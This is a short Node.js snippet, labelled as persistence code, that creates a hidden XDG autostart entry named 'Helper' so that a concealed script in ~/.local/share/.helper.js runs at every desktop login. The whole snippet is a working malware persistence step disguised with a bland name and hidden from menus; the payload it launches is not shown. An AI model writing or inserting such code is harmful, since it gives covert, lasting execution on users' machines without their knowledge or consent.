// persistence: an XDG autostart desktop entry
const fs = require('fs');
const os = require('os');
const dir = `${os.homedir()}/.config/autostart`;
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(`${dir}/helper.desktop`, `[Desktop Entry]
Type=Application
Name=Helper
Exec=node ${os.homedir()}/.local/share/.helper.js
NoDisplay=true
`);
